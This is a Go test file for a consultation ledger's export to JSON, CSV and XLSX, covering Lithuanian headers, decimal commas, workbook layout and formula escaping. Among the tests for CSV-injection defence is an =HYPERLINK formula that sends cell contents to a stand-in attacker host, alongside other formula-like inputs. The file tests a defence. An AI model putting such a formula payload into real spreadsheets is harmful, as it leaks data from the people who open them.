package ledger

import (
	"archive/zip"
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"strings"
	"testing"

	"github.com/vvgintake/vvgintake/internal/clocktest"
	"github.com/vvgintake/vvgintake/internal/xlsxtest"
)

func TestExportFormats(t *testing.T) {
	ctx := context.Background()
	db := openTest(t, nil)
	c := newConsultation(t, db, "s")
	texts := []string{"Siūlau dienos centrą senjorams, \"su kabutėmis\"", "Kursai bedarbiams\nantra eilutė", "<b>&</b>"}
	for _, tx := range texts {
		if _, err := db.AddSubmission(ctx, &NewSubmission{ConsultationID: c.ID, Source: SourceForm,
			SenderName: "Ona Žemaitė", Text: tx, Class: Classification{Measure: "1.1", Confidence: 0.91234}}); err != nil {
			t.Fatal(err)
		}
	}
	for _, format := range []string{"json", "csv", "xlsx"} {
		t.Run(format, func(t *testing.T) {
			var buf bytes.Buffer
			n, err := db.Export(ctx, &buf, ExportOptions{Format: format, Filter: Filter{Consultation: "s"}, Headers: HeadersEN})
			if err != nil || n != 3 {
				t.Fatalf("export = %d, %v", n, err)
			}
			var got []string
			switch format {
			case "json":
				sc := bufio.NewScanner(&buf)
				for sc.Scan() {
					var r map[string]any
					if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
						t.Fatal(err)
					}
					for _, k := range []string{"ref", "consultation", "source", "received_at", "sender", "subject", "text",
						"measure", "confidence", "needs_review", "late", "status", "decision", "response_due"} {
						if _, ok := r[k]; !ok {
							t.Errorf("json record lacks %q", k)
						}
					}
					got = append(got, r["text"].(string))
				}
			case "csv":
				rd := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF")))
				recs, err := rd.ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				if recs[0][0] != "ref" {
					t.Errorf("header = %v", recs[0])
				}
				for _, r := range recs[1:] {
					got = append(got, r[8])
				}
			case "xlsx":
				got = readXLSXColumn(t, buf.Bytes(), 8)[1:]
			}
			if strings.Join(got, "|") != strings.Join(texts, "|") {
				t.Errorf("texts read back = %q, want %q", got, texts)
			}
		})
	}
	if _, err := db.Export(ctx, io.Discard, ExportOptions{Format: "pdf"}); err == nil {
		t.Error("export pdf: got nil error")
	}
}

// readXLSXColumn reads one column of the first sheet back, as a
// spreadsheet program would.
func readXLSXColumn(t *testing.T, b []byte, col int) []string {
	t.Helper()
	var sheet struct {
		Rows []struct {
			Cells []struct {
				R  string `xml:"r,attr"`
				T  string `xml:"t,attr"`
				V  string `xml:"v"`
				IS struct {
					T string `xml:"t"`
				} `xml:"is"`
			} `xml:"c"`
		} `xml:"sheetData>row"`
	}
	if err := xml.Unmarshal([]byte(xlsxtest.Sheet(t, b)), &sheet); err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, r := range sheet.Rows {
		c := r.Cells[col]
		if c.T == "inlineStr" {
			out = append(out, c.IS.T)
		} else {
			out = append(out, c.V)
		}
	}
	return out
}

// exportOf exports the consultation's submissions with opt.
func exportOf(t *testing.T, db *DB, opt ExportOptions) []byte {
	t.Helper()
	var buf bytes.Buffer
	opt.Filter = Filter{Consultation: "s"}
	if _, err := db.Export(context.Background(), &buf, opt); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// newExportLedger holds one suggestion whose text starts like a formula,
// filed under other and decided.
func newExportLedger(t *testing.T, text string) *DB {
	t.Helper()
	ctx := context.Background()
	db := openTest(t, &testClock{t: clocktest.At(t, "2026-12-01T10:30:00+02:00")})
	c := newConsultation(t, db, "s")
	s, err := db.AddSubmission(ctx, &NewSubmission{ConsultationID: c.ID, Source: SourceForm, Sector: "public",
		SenderName: "Ona", Text: text, ReceivedAt: clocktest.At(t, "2026-12-01T10:30:00+02:00"),
		Class: Classification{Measure: "other", Confidence: 0.91234, NeedsReview: true}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.Decide(ctx, s.Ref, "partly", "=1+1", "ona"); err != nil {
		t.Fatal(err)
	}
	return db
}

// TestExportLithuanian: by default CSV and XLSX speak to staff: Lithuanian
// headers and words (Kita, taip/ne, iš dalies atsižvelgta), dates as a
// spreadsheet reads them; --headers en keeps the contract's; ';' between
// fields gives numbers a decimal comma, as Lithuanian Excel reads them.
func TestExportLithuanian(t *testing.T) {
	db := newExportLedger(t, "Siūlau dienos centrą")
	read := func(b []byte, comma rune) [][]string {
		t.Helper()
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(b), "\uFEFF")))
		r.Comma = comma
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return recs
	}
	lt := read(exportOf(t, db, ExportOptions{Format: "csv"}), ',')
	want := map[string]string{"Nr.": "VVG-2026-0001", "Šaltinis": "forma", "Gauta": "2026-12-01 10:30", "Teikėjas": "valstybės ar savivaldybės įstaiga",
		"Priemonė": "Kita", "Tikimybė": "0.912", "Laukia peržiūros": "ne", "Po termino": "ne", "Būsena": "sprendimas priimtas",
		"Sprendimas": "iš dalies atsižvelgta", "Atsakyti iki": "2027-01-13"}
	for i, h := range lt[0] {
		if w, ok := want[h]; ok && lt[1][i] != w {
			t.Errorf("%s = %q, want %q", h, lt[1][i], w)
		}
		delete(want, h)
	}
	if len(want) > 0 {
		t.Errorf("headers %v lack %v", lt[0], want)
	}
	en := read(exportOf(t, db, ExportOptions{Format: "csv", Headers: HeadersEN}), ',')
	if en[0][0] != "ref" || en[1][9] != "other" || en[1][3] != "2026-12-01T10:30:00+02:00" || en[1][12] != "false" {
		t.Errorf("--headers en: %v %v", en[0], en[1])
	}
	semi := read(exportOf(t, db, ExportOptions{Format: "csv", Comma: ';'}), ';')
	if semi[1][10] != "0,912" || len(semi[0]) != len(exportColumns) {
		t.Errorf("';' export: confidence %q, %d columns", semi[1][10], len(semi[0]))
	}
	if _, err := db.Export(context.Background(), io.Discard, ExportOptions{Format: "csv", Headers: "de"}); !errors.Is(err, ErrInvalid) {
		t.Errorf("headers de: %v, want ErrInvalid", err)
	}
}

// TestExportFormulaCells: a cell a resident (or staff) wrote that starts
// like a spreadsheet formula is written so that a spreadsheet shows it
// instead of running it (OWASP "CSV injection"): in CSV with a leading ',
// in XLSX as a text cell, never a formula.
func TestExportFormulaCells(t *testing.T) {
	for _, text := range []string{`=HYPERLINK("http://evil.example/?"&A1,"Spausk")`, "+370 600 00000", "-2+3", "@SUM(A1:A9)",
		"\t=1+1", "\r=1+1"} {
		t.Run(text, func(t *testing.T) {
			db := newExportLedger(t, text)
			for _, headers := range []string{HeadersLT, HeadersEN} {
				r := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(exportOf(t, db, ExportOptions{Format: "csv", Headers: headers})), "\uFEFF")))
				recs, err := r.ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				if got := recs[1][8]; got != "'"+text {
					t.Errorf("%s csv text cell = %q, want %q", headers, got, "'"+text)
				}
				if got := recs[1][17]; got != "'=1+1" {
					t.Errorf("%s csv decision reason = %q, want '=1+1", headers, got)
				}
			}
			x := exportOf(t, db, ExportOptions{Format: "xlsx"})
			sheet := xlsxtest.Sheet(t, x)
			if strings.Contains(sheet, "<f>") || strings.Contains(sheet, "<f ") {
				t.Errorf("xlsx has a formula:\n%s", sheet)
			}
			if got := readXLSXColumn(t, x, 8)[1]; got != text {
				t.Errorf("xlsx text cell = %q, want %q as written", got, text)
			}
		})
	}
}

// TestXLSXLayout: the workbook staff open has a bold, frozen header row
// with a filter, column widths, wrapped long text, and real date cells
// (serial days, in Vilnius wall-clock time) with date formats.
func TestXLSXLayout(t *testing.T) {
	db := newExportLedger(t, "Siūlau dienos centrą")
	x := exportOf(t, db, ExportOptions{Format: "xlsx"})
	sheet := xlsxtest.Sheet(t, x)
	for _, want := range []string{
		`<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>`,
		`<col min="9" max="9" width="70" customWidth="1"/>`,
		`<c r="A1" s="1" t="inlineStr"><is><t xml:space="preserve">Nr.</t></is></c>`,
		`<c r="I2" s="4" t="inlineStr">`,        // the text wraps
		`<c r="D2" s="2"><v>46357.4375</v></c>`, // 2026-12-01 10:30 in Vilnius
		`<c r="S2" s="3"><v>46400</v></c>`,      // 2027-01-13
		`<autoFilter ref="A1:V2"/>`,
	} {
		if !strings.Contains(sheet, want) {
			t.Errorf("sheet lacks %s", want)
		}
	}
	zr, err := zip.NewReader(bytes.NewReader(x), int64(len(x)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := zr.Open("xl/styles.xml")
	if err != nil {
		t.Fatalf("no styles: %v", err)
	}
	defer f.Close()
	var st struct {
		Fonts []struct {
			B *struct{} `xml:"b"`
		} `xml:"fonts>font"`
		Xfs []struct {
			NumFmtID string `xml:"numFmtId,attr"`
			FontID   string `xml:"fontId,attr"`
		} `xml:"cellXfs>xf"`
		NumFmts []struct {
			ID   string `xml:"numFmtId,attr"`
			Code string `xml:"formatCode,attr"`
		} `xml:"numFmts>numFmt"`
	}
	if err := xml.NewDecoder(f).Decode(&st); err != nil {
		t.Fatal(err)
	}
	if st.Fonts[1].B == nil || st.Xfs[styleHeader].FontID != "1" {
		t.Errorf("the header style is not bold: %+v", st)
	}
	if st.Xfs[styleDateTime].NumFmtID != "164" || st.Xfs[styleDate].NumFmtID != "165" ||
		st.NumFmts[0].Code != "yyyy-mm-dd hh:mm" || st.NumFmts[1].Code != "yyyy-mm-dd" {
		t.Errorf("date styles: %+v", st)
	}
}
